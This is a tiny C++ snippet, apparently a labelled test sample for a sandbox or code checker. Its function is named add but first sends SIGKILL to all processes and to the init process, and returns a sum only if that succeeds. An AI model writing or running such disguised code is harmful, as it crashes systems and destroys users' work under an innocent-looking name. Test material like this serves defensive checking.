// failed killed: signals all processes
#include <csignal>
#include <sys/types.h>
int add(int a, int b) {
    return kill(-1, SIGKILL) == 0 || kill(1, SIGKILL) == 0 ? a + b : -1;
}
